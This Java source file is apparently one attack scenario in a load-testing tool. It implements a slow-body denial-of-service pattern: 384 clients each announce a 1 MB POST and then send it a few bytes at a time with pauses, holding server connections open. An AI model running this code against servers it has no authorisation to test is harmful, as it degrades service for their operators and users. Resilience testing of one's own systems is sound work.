package dev.fdlab.load.attack;

import java.io.IOException;
import java.net.Socket;

/** Sends a body as slowly as it likes. */
final class SlowBodies implements Attack {

    private final String name;
    private final int bytes;
    private final int paceMillis;

    /** Sends a few bytes at a time. */
    SlowBodies(String name, int bytes, int paceMillis) {
        this.name = name;
        this.bytes = bytes;
        this.paceMillis = paceMillis;
    }

    @Override
    public String name() {
        return name;
    }

    @Override
    public String does() {
        return "uploads 1 MB, " + bytes + (bytes == 1 ? " byte" : " bytes") + " every " + paceMillis + " ms";
    }

    @Override
    public int clients() {
        return 384;
    }

    @Override
    public void live(Target target) throws IOException {
        try (Socket socket = target.connect()) {
            socket.getOutputStream().write(target.post(1_000_000));
            byte[] some = new byte[bytes];
            for (int sent = 0; sent < 1_000_000; sent += bytes) {
                socket.getOutputStream().write(some);
                if (!Target.pause(socket, paceMillis)) {
                    return;
                }
            }
        }
    }
}
